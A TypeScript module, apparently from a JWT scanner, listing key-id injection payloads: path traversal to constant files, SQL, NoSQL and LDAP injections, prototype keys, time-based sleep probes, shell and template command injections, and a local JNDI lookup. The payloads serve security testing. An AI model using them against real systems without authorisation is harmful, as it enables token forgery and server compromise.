/** A key id that makes a careless lookup find a key that the attacker knows. */
export interface KeyIdAttack {
  readonly label: string;
  readonly kid: unknown;
  /** The HMAC secret that the lookup then gives. */
  readonly secret: string | Uint8Array;
}

const path = (kid: string, secret: string | Uint8Array = ''): KeyIdAttack => ({ label: kid, kid, secret });

const sql = (kid: string, secret = '1'): KeyIdAttack => ({ label: kid, kid, secret });

/** Files that are empty or the same everywhere, reached by path (RFC 8725 section 3.10; CVE-2018-0114's kin). */
export const KNOWN_FILES: readonly KeyIdAttack[] = [
  path('/dev/null'),
  path('../../../../../../../../dev/null'),
  path('..%2f..%2f..%2f..%2f..%2fdev%2fnull'),
  path('....//....//....//....//dev/null'),
  path('..\\..\\..\\..\\dev\\null'),
  path('file:///dev/null'),
  path('/dev/null\0'),
  path('/dev/null\0.pem'),
  path('../../../../../../../../dev/null\0.pem'),
  path('/dev/null;.pem'),
  path('/proc/self/environ-none'),
  path('/proc/sys/kernel/randomize_va_space', '2\n'),
  path('../../../../../../../../proc/sys/kernel/randomize_va_space', '2\n'),
  path('../../../../../../../../proc/sys/kernel/randomize_va_space', '2'),
  path('/proc/sys/kernel/ostype', 'Linux\n'),
  path('../../../../../../../../proc/sys/kernel/ostype', 'Linux\n'),
  path('/proc/sys/net/ipv4/ip_default_ttl', '64\n'),
  path('../../../../../../../../proc/sys/net/ipv4/ip_default_ttl', '64\n'),
  path('/etc/host.conf', 'multi on\n'),
  path('nul'),
  path('NUL'),
  path('C:\\NUL'),
  path('/sys/kernel/notes-none'),
  path('.'),
  path('..'),
  path('./'),
  path('/'),
  path(''),
  path('nonexistent'),
  path('null'),
  path('undefined'),
  path('0'),
];

/** SQL that makes a lookup of keys by id answer with a constant. */
export const SQL: readonly KeyIdAttack[] = [
  sql("x' UNION SELECT '1';--"),
  sql("x' UNION SELECT '1'-- -"),
  sql("x' UNION SELECT '1' --"),
  sql("x' UNION SELECT '1"),
  sql("x' UNION SELECT '1' FROM DUAL-- "),
  sql("x' UNION ALL SELECT '1'#"),
  sql("x' union select '1'/*"),
  sql("x') UNION SELECT '1'-- "),
  sql("x')) UNION SELECT '1'-- "),
  sql('x" UNION SELECT "1";--'),
  sql('x" UNION SELECT "1"-- '),
  sql("x\" UNION SELECT '1'-- "),
  sql('x") UNION SELECT "1"-- '),
  sql('0 UNION SELECT 1'),
  sql("0 UNION SELECT '1'-- "),
  sql("x' UNION SELECT '1', '1'-- "),
  sql("x' UNION SELECT '1', '1', '1'-- "),
  sql("x'||(SELECT '1')||'", 'x1'),
  sql("x' OR '1'='1"),
  sql("x' OR 1=1-- "),
  sql('x" OR "1"="1'),
  sql('0 OR 1=1'),
  sql("x' AND 1=0 UNION SELECT CHAR(49)-- "),
  sql("x';SELECT '1';--"),
  sql("' UNION SELECT ''-- ", ''),
];

/** Values that are no text, and operators of document stores and LDAP, for lookups that take them as they come. */
export const OBJECTS: readonly KeyIdAttack[] = [
  { label: '{"$ne":null}', kid: { $ne: null }, secret: '' },
  { label: '{"$gt":""}', kid: { $gt: '' }, secret: '' },
  { label: '{"$regex":".*"}', kid: { $regex: '.*' }, secret: '' },
  { label: '{"$exists":true}', kid: { $exists: true }, secret: '' },
  { label: '*', kid: '*', secret: '' },
  { label: '*)(uid=*', kid: '*)(uid=*))(|(uid=*', secret: '' },
  { label: '*)(objectClass=*', kid: '*)(objectClass=*', secret: '' },
  { label: 'list', kid: [''], secret: '' },
  { label: 'number', kid: 0, secret: '' },
  { label: 'true', kid: true, secret: '' },
  { label: 'null', kid: null, secret: '' },
  ...[
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'valueOf',
    'hasOwnProperty',
    '__defineGetter__',
    'length',
  ].flatMap((kid): KeyIdAttack[] => [
    { label: kid, kid, secret: '' },
    { label: `${kid}, undefined`, kid, secret: 'undefined' },
    { label: `${kid}, object`, kid, secret: '[object Object]' },
  ]),
  { label: 'constructor, its text', kid: 'constructor', secret: 'function Object() { [native code] }' },
  { label: 'toString, its text', kid: 'toString', secret: 'function toString() { [native code] }' },
];

/** Seconds that {@link SLEEPS} and {@link COMMANDS} make a vulnerable server wait. */
export const SLEEP_SECONDS = 3;

const T = SLEEP_SECONDS;

/** Key ids that make a database wait. */
export const SLEEPS: readonly string[] = [
  `x' OR SLEEP(${T})-- `,
  `x" OR SLEEP(${T})-- `,
  `x' UNION SELECT SLEEP(${T})-- `,
  `x'; SELECT pg_sleep(${T})-- `,
  `x' || pg_sleep(${T})-- `,
  `x'; WAITFOR DELAY '0:0:${T}'-- `,
  `0; SELECT pg_sleep(${T})`,
  `'; return sleep(${T}000); var x='`,
  `{"$where":"sleep(${T}000)"}`,
];

/** Key ids that make a shell, a template or an expression wait or answer. */
export const COMMANDS: readonly string[] = [
  `|sleep ${T}`,
  `;sleep ${T}`,
  `;sleep ${T};`,
  `&&sleep ${T}`,
  `||sleep ${T}`,
  `\`sleep ${T}\``,
  `$(sleep ${T})`,
  `x|sleep ${T}#`,
  `x\nsleep ${T}\n`,
  `x;sleep ${T}#.pem`,
  `'; sleep ${T}; '`,
  `"; sleep ${T}; "`,
  `{{''.__class__}}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the server’s template, not ours
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the server’s lookup, not ours
  '${jndi:ldap://127.0.0.1:1/x}',
];
